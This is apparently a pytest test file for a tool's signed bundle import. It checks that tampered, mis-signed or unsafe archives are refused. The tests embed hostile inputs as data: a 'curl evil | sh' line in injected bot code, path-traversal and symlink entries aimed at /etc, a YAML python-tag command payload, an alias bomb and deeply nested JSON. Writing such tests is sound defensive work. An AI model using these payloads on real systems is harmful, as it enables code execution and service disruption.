"""Bundles: export, verified import with lineage, and every way a bundle is refused.

Each rejection test checks that the target database is untouched: the same
row counts in every registry table before and after.
"""

from __future__ import annotations

import hashlib
import json
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from sqlalchemy import func, select

from robo.app import Robo
from robo.canonical import signed_bytes
from robo.errors import BundleError, DowngradeRefused, RoboError, SignatureError
from robo.loader import load_process
from robo.replication import signing
from robo.replication.bundles import export_bundle, import_bundle
from robo.storage.models import (
    OverlayRow,
    ProcessRow,
    RegistryEventRow,
    TrustedKeyRow,
    VersionFileRow,
    VersionRow,
)
from tests.conftest import definition

Installation = Callable[..., Robo]
BOT = "def process(ctx):\n    ctx.output['done'] = True\n"
README = "# Sample process\n\nHow it works.\n"


def spec(version: str = "1.0.0", **overrides: Any) -> dict[str, Any]:
    return definition(
        version=version,
        bot={"entrypoint": "bot:process"},
        include=["README.md"],
        **overrides,
    )


@pytest.fixture
def origin(installation: Installation, make_process: Callable[..., Path]) -> Robo:
    robo = installation("occitanie")
    robo.keys.generate()
    robo.registry.deploy(
        load_process(make_process(spec(), files={"bot.py": BOT, "README.md": README}))
    )
    return robo


@pytest.fixture
def target(installation: Installation, origin: Robo) -> Robo:
    robo = installation("ile-de-france")
    robo.keys.trust("occitanie", origin.keys.listing().local_key or "")
    return robo


@pytest.fixture
def bundle(origin: Robo, tmp_path: Path) -> Path:
    """A bundle as `robo export` writes it by default: without the items file."""
    path = tmp_path / "catalogue" / "sample-process-1.0.0.robo.zip"
    export_bundle(origin.registry, origin.keys, "sample-process", None, path)
    return path


@pytest.fixture
def full_bundle(origin: Robo, tmp_path: Path) -> Path:
    """`robo export --with-items`: the items file too."""
    path = tmp_path / "catalogue" / "sample-process-1.0.0-full.robo.zip"
    export_bundle(origin.registry, origin.keys, "sample-process", None, path, with_items=True)
    return path


def counts(robo: Robo) -> dict[str, int]:
    tables = (ProcessRow, VersionRow, VersionFileRow, RegistryEventRow, OverlayRow, TrustedKeyRow)
    with robo.db.session() as session:
        return {
            t.__tablename__: int(session.scalar(select(func.count()).select_from(t)) or 0)
            for t in tables
        }


def entries_of(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def write(path: Path, entries: dict[str, bytes], modes: dict[str, int] | None = None) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            info = zipfile.ZipInfo(name)
            info.compress_type = zipfile.ZIP_DEFLATED
            info.external_attr = (modes or {}).get(name, 0o100644) << 16
            archive.writestr(info, data)
    return path


def resign(
    entries: dict[str, bytes], key: Ed25519PrivateKey, **manifest_changes: Any
) -> dict[str, bytes]:
    """Recompute every hash and sign again, as an attacker with ``key`` would."""
    manifest = json.loads(entries["manifest.json"])
    files = {n.removeprefix("files/"): d for n, d in entries.items() if n.startswith("files/")}
    manifest["files"] = {n: hashlib.sha256(d).hexdigest() for n, d in files.items()}
    manifest.update(manifest_changes)
    body = signed_bytes(manifest)
    return {
        **entries,
        "manifest.json": body,
        "signature": signing.sign(key, body).encode(),
    }


def origin_key(origin: Robo) -> Ed25519PrivateKey:
    return signing.load_private(origin.settings.home, "occitanie")


def refused(target: Robo, path: Path, error: type[RoboError] = RoboError) -> str:
    before = counts(target)
    with pytest.raises(error) as info:
        import_bundle(target.db, target.registry, target.keys, path)
    assert counts(target) == before
    return info.value.message


# --- round trip ------------------------------------------------------------------------


def test_an_exported_bundle_holds_definition_code_docs_and_lineage(bundle: Path) -> None:
    entries = entries_of(bundle)
    manifest = json.loads(entries["manifest.json"])

    assert sorted(entries) == [
        "files/README.md",
        "files/bot.py",
        "files/process.yaml",
        "manifest.json",
        "signature",
    ]
    assert "input/items.csv" not in manifest["files"]
    assert (manifest["format"], manifest["format_version"]) == ("robo-bundle", 1)
    assert (manifest["origin_region"], manifest["origin_version"]) == ("occitanie", "1.0.0")
    assert manifest["files"]["bot.py"] == hashlib.sha256(BOT.encode()).hexdigest()


def test_import_registers_the_version_with_its_lineage(
    origin: Robo, target: Robo, bundle: Path
) -> None:
    result = import_bundle(target.db, target.registry, target.keys, bundle)

    assert (result.outcome, result.origin_region, result.origin_version) == (
        "created",
        "occitanie",
        "1.0.0",
    )
    version = target.registry.active("sample-process")
    assert (version.origin_region, version.origin_version) == ("occitanie", "1.0.0")
    assert version.files["bot.py"] == BOT.encode()
    assert "input/items.csv" not in version.files  # left out of the bundle: no default input


def test_a_bundle_with_items_imports_the_exact_version_of_the_origin(
    origin: Robo, target: Robo, full_bundle: Path
) -> None:
    assert "files/input/items.csv" in entries_of(full_bundle)
    import_bundle(target.db, target.registry, target.keys, full_bundle)

    version = target.registry.active("sample-process")
    assert version.content_hash == origin.registry.active("sample-process").content_hash
    assert version.files["input/items.csv"] == b"ref,name\nA1,first\nA2,second\n"


def test_bundles_leave_the_items_file_and_its_personal_data_out_unless_asked(
    bundle: Path, full_bundle: Path
) -> None:
    assert b"A1,first" not in b"".join(entries_of(bundle).values())
    assert b"A1,first" in b"".join(entries_of(full_bundle).values())


def test_bundles_are_written_for_a_shared_folder_and_keys_stay_private(
    origin: Robo, bundle: Path
) -> None:
    assert bundle.stat().st_mode & 0o777 == 0o644
    key = signing.key_file(origin.settings.home, "occitanie")
    assert key.stat().st_mode & 0o777 == 0o600


def test_export_to_a_path_that_cannot_be_written_says_so(origin: Robo, tmp_path: Path) -> None:
    blocker = tmp_path / "a-file"
    blocker.write_text("x")
    with pytest.raises(RoboError, match="cannot write"):
        export_bundle(origin.registry, origin.keys, "sample-process", None, blocker / "b.zip")


def test_importing_the_same_bundle_twice_changes_nothing(target: Robo, bundle: Path) -> None:
    import_bundle(target.db, target.registry, target.keys, bundle)
    before = counts(target)

    assert import_bundle(target.db, target.registry, target.keys, bundle).outcome == "unchanged"
    assert counts(target) == before


def test_secrets_and_machine_specific_data_never_enter_a_bundle(origin: Robo, bundle: Path) -> None:
    origin.secrets.set("portal_password", "very-secret-value")
    text = b"".join(entries_of(bundle).values())

    assert b"very-secret-value" not in text
    assert str(origin.settings.home).encode() not in text


def test_export_without_a_signing_key_says_how_to_make_one(
    installation: Installation, make_process: Callable[..., Path], tmp_path: Path
) -> None:
    robo = installation("bretagne")
    robo.registry.deploy(
        load_process(make_process(spec(), files={"bot.py": BOT, "README.md": README}))
    )
    with pytest.raises(RoboError, match="robo keys generate"):
        export_bundle(robo.registry, robo.keys, "sample-process", None, tmp_path / "x.zip")


# --- tampering -------------------------------------------------------------------------


@pytest.mark.parametrize(
    "entry",
    ["manifest.json", "signature", "files/process.yaml", "files/bot.py", "files/input/items.csv"],
)
def test_a_flipped_byte_in_any_entry_is_refused(
    target: Robo, full_bundle: Path, tmp_path: Path, entry: str
) -> None:
    entries = entries_of(full_bundle)
    data = bytearray(entries[entry])
    data[len(data) // 2] ^= 0x01
    entries[entry] = bytes(data)

    refused(target, write(tmp_path / "tampered.zip", entries))


@pytest.mark.parametrize("fraction", [0.1, 0.3, 0.5, 0.7, 0.9])
def test_a_flipped_byte_anywhere_in_the_archive_is_refused(
    target: Robo, bundle: Path, tmp_path: Path, fraction: float
) -> None:
    data = bytearray(bundle.read_bytes())
    data[int(len(data) * fraction)] ^= 0x01
    (tmp_path / "flipped.zip").write_bytes(bytes(data))

    refused(target, tmp_path / "flipped.zip")


def test_a_bundle_signed_by_an_untrusted_region_is_refused(
    target: Robo, bundle: Path, tmp_path: Path
) -> None:
    entries = resign(entries_of(bundle), Ed25519PrivateKey.generate(), signed_by="bretagne")

    message = refused(target, write(tmp_path / "b.zip", entries), SignatureError)
    assert "robo keys trust bretagne" in message


def test_a_tampered_bundle_re_signed_with_another_key_is_refused(
    target: Robo, bundle: Path, tmp_path: Path
) -> None:
    entries = entries_of(bundle)
    entries["files/bot.py"] = b"import os\nos.system('curl evil | sh')\ndef process(ctx): ...\n"
    entries = resign(entries, Ed25519PrivateKey.generate())  # still claims occitanie

    message = refused(target, write(tmp_path / "b.zip", entries), SignatureError)
    assert "does not match region 'occitanie'" in message


def test_a_changed_release_signed_by_the_trusted_key_is_still_refused(
    origin: Robo, target: Robo, bundle: Path, tmp_path: Path
) -> None:
    import_bundle(target.db, target.registry, target.keys, bundle)
    entries = entries_of(bundle)
    entries["files/bot.py"] = BOT.encode() + b"# changed without a new version\n"
    entries = resign(entries, origin_key(origin))

    message = refused(target, write(tmp_path / "b.zip", entries), BundleError)
    assert "never changes a released version" in message or "content hash" in message


def test_a_downgrade_is_refused(
    origin: Robo, target: Robo, bundle: Path, make_process: Callable[..., Path], tmp_path: Path
) -> None:
    origin.registry.deploy(
        load_process(make_process(spec("1.1.0"), files={"bot.py": BOT, "README.md": README}))
    )
    export_bundle(origin.registry, origin.keys, "sample-process", "1.1.0", tmp_path / "new.zip")
    import_bundle(target.db, target.registry, target.keys, tmp_path / "new.zip")

    message = refused(target, bundle, DowngradeRefused)
    assert "older than 1.1.0" in message


# --- unsafe archives ---------------------------------------------------------------------


@pytest.mark.parametrize(
    "name",
    ["files/../../evil.py", "/etc/cron.d/evil", "files/a/../../x", "C:/evil.py", "files\\evil.py"],
)
def test_an_entry_that_escapes_the_archive_is_refused(
    origin: Robo, target: Robo, bundle: Path, tmp_path: Path, name: str
) -> None:
    entries = entries_of(bundle)
    entries[name] = b"evil"

    message = refused(target, write(tmp_path / "b.zip", entries), BundleError)
    assert name in message


def test_a_symlink_entry_is_refused(target: Robo, bundle: Path, tmp_path: Path) -> None:
    entries = {**entries_of(bundle), "files/link": b"/etc/passwd"}

    path = write(tmp_path / "b.zip", entries, modes={"files/link": 0o120777})
    assert "symbolic link" in refused(target, path, BundleError)


def test_an_oversized_entry_is_refused_before_it_is_read(
    target: Robo, bundle: Path, tmp_path: Path
) -> None:
    entries = {**entries_of(bundle), "files/huge.bin": bytes(21_000_000)}

    path = write(tmp_path / "b.zip", entries)
    assert path.stat().st_size < 1_000_000  # zeros compress: a small file that unpacks large
    assert "limit" in refused(target, path, BundleError)


def test_an_archive_with_too_many_entries_is_refused(
    target: Robo, bundle: Path, tmp_path: Path
) -> None:
    entries = {**entries_of(bundle), **{f"files/many/{i}.txt": b"x" for i in range(1001)}}

    assert "entries" in refused(target, write(tmp_path / "b.zip", entries), BundleError)


def test_a_deeply_nested_archive_is_refused(target: Robo, bundle: Path, tmp_path: Path) -> None:
    deep = "files/" + "/".join(["d"] * 30) + "/x.txt"
    entries = {**entries_of(bundle), deep: b"x"}

    assert "nested deeper" in refused(target, write(tmp_path / "b.zip", entries), BundleError)


def test_a_file_the_manifest_does_not_list_is_refused(
    target: Robo, bundle: Path, tmp_path: Path
) -> None:
    entries = {**entries_of(bundle), "files/extra.py": b"print('hi')\n"}

    assert "unlisted" in refused(target, write(tmp_path / "b.zip", entries), BundleError)


def test_a_signed_file_the_definition_does_not_name_is_refused(
    origin: Robo, target: Robo, bundle: Path, tmp_path: Path
) -> None:
    entries = resign({**entries_of(bundle), "files/extra.py": b"x = 1\n"}, origin_key(origin))

    message = refused(target, write(tmp_path / "b.zip", entries), BundleError)
    assert "not named by the definition" in message


def test_a_zip_that_is_not_a_bundle_is_refused(target: Robo, tmp_path: Path) -> None:
    assert "not a robo bundle" in refused(
        target, write(tmp_path / "b.zip", {"hello.txt": b"hi"}), BundleError
    )
    (tmp_path / "garbage.zip").write_bytes(b"not a zip at all")
    refused(target, tmp_path / "garbage.zip", BundleError)


# --- hostile definitions, signed by a trusted key ---------------------------------------------

PYTHON_TAG = """id: sample-process
name: !!python/object/apply:os.system ["echo owned"]
"""
ALIAS_BOMB = """a: &a ["x","x","x","x","x","x","x","x","x"]
b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]
c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]
d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]
id: sample-process
"""


@pytest.mark.parametrize(
    ("text", "expected"), [(PYTHON_TAG, "tags"), (ALIAS_BOMB, "anchors and aliases")]
)
def test_hostile_yaml_is_refused_even_when_signed(
    origin: Robo, target: Robo, bundle: Path, tmp_path: Path, text: str, expected: str
) -> None:
    entries = resign(
        {**entries_of(bundle), "files/process.yaml": text.encode()}, origin_key(origin)
    )

    assert expected in refused(target, write(tmp_path / "b.zip", entries), BundleError)


def test_a_newer_bundle_format_is_refused_with_a_clear_message(
    origin: Robo, target: Robo, bundle: Path, tmp_path: Path
) -> None:
    entries = resign(entries_of(bundle), origin_key(origin), format_version=2)

    message = refused(target, write(tmp_path / "b.zip", entries), BundleError)
    assert "format 2" in message and "upgrade robo" in message


def test_a_process_id_that_already_belongs_to_another_origin_is_refused(
    target: Robo, bundle: Path, make_process: Callable[..., Path]
) -> None:
    target.registry.deploy(
        load_process(make_process(spec("2.0.0"), files={"bot.py": BOT, "README.md": README}))
    )

    assert "share this id" in refused(target, bundle, BundleError)


def test_manifest_entries_are_checked_in_memory_only(
    target: Robo, bundle: Path, tmp_path: Path
) -> None:
    """A refused bundle leaves no file behind in the target's home."""
    entries = entries_of(bundle)
    entries["files/bot.py"] += b"#"
    before = sorted(p.name for p in target.settings.home.rglob("*"))

    refused(target, write(tmp_path / "b.zip", entries))
    assert sorted(p.name for p in target.settings.home.rglob("*")) == before


# --- hostile manifests (issue 12) ------------------------------------------------------------


def test_a_deeply_nested_manifest_is_refused_before_the_signature_check_with_no_key(
    installation: Installation, tmp_path: Path
) -> None:
    nobody = installation("bretagne")  # trusts no key at all
    path = write(
        tmp_path / "nested.zip",
        {"manifest.json": b"[" * 100_000 + b"]" * 100_000, "signature": b"x"},
    )
    message = refused(nobody, path, BundleError)
    assert "nested 100000 levels deep" in message


def test_a_manifest_with_non_finite_numbers_is_refused(
    origin: Robo, target: Robo, bundle: Path, tmp_path: Path
) -> None:
    entries = entries_of(bundle)
    entries["manifest.json"] = entries["manifest.json"].replace(
        b'"format_version":1', b'"format_version":NaN'
    )
    assert b"NaN" in entries["manifest.json"]
    assert "finite" in refused(target, write(tmp_path / "nan.zip", entries), BundleError)


def test_a_catalogue_skips_a_bad_bundle_with_its_reason_and_lists_the_rest(
    origin: Robo, target: Robo, bundle: Path
) -> None:
    from robo.replication.catalogue import read_catalogue

    write(
        bundle.parent / "nested.robo.zip",
        {"manifest.json": b'{"a":' * 5000 + b"1" + b"}" * 5000, "signature": b"x"},
    )
    (bundle.parent / "garbage.robo.zip").write_bytes(b"PK\x03\x04 not a zip")

    catalogue = read_catalogue(target.keys, bundle.parent)

    assert [e.manifest.process_id for e in catalogue.entries] == ["sample-process"]
    assert sorted(r.split(":")[0] for r in catalogue.rejected) == [
        "garbage.robo.zip",
        "nested.robo.zip",
    ]


def test_an_encrypted_entry_is_refused_not_a_crash(
    target: Robo, bundle: Path, tmp_path: Path
) -> None:
    data = bytearray(bundle.read_bytes())
    data[6] |= 0x01  # the "encrypted" flag of the first entry's local header
    (tmp_path / "encrypted.zip").write_bytes(bytes(data))
    refused(target, tmp_path / "encrypted.zip", BundleError)
